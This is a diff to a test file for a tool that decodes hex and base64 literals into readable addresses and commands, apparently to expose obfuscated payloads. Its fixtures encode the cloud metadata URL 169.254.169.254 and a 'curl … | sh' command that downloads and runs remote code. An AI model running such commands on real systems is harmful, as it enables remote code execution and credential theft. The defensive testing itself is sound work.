@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { decodedTexts, MAX_DECODED_PER_FILE, readable, unpackedScripts } from './decoded.js';
+import { decodedLiteralEdits, decodedTexts, MAX_DECODED_PER_FILE, readable, unpackedScripts } from './decoded.js';
 
 const texts = (code: string): string[] => decodedTexts(code).map((d) => d.text);
 
@@ -218,5 +218,22 @@ describe("scripts packed with Dean Edwards' packer", () => {
   it('reads nothing from text that only looks like a call with a word list', () => {
     expect(unpackedScripts("x.split('|')")).toEqual([]);
     expect(unpackedScripts(packed('same', 10, 'a|b'))).toEqual([]);
+  });
+});
+
+describe('decoded literals written in place', () => {
+  const hex = (s: string): string => Buffer.from(s).toString('hex');
+  it('writes a hex or base64 literal as the address or command it decodes to, quoted as it was', () => {
+    const code = `M = bytes.fromhex("${hex('http://169.254.169.254/latest/')}").decode()`;
+    const [edit] = decodedLiteralEdits(code);
+    expect(edit?.text).toBe('"http://169.254.169.254/latest/"');
+    expect(code.slice(edit!.at, edit!.end)).toBe(`"${hex('http://169.254.169.254/latest/')}"`);
+    expect(decodedLiteralEdits(`c = '${Buffer.from('curl -s https://cdn-sync.net/a | sh').toString('base64')}'`).map((e) => e.text)).toEqual(["'curl -s https://cdn-sync.net/a | sh'"]);
+  });
+
+  it('leaves literals whose text says nothing of an address or a command, or could not be written as one literal', () => {
+    expect(decodedLiteralEdits(`x = "${Buffer.from('The quick brown fox jumps over').toString('base64')}"`)).toEqual([]);
+    expect(decodedLiteralEdits(`x = "${hex("curl 'http://cdn-sync.net/a'")}"`)).toEqual([]);
+    expect(decodedLiteralEdits(`x = "${hex('curl http://a.net/x\nsh')}"`)).toEqual([]);
   });
 });
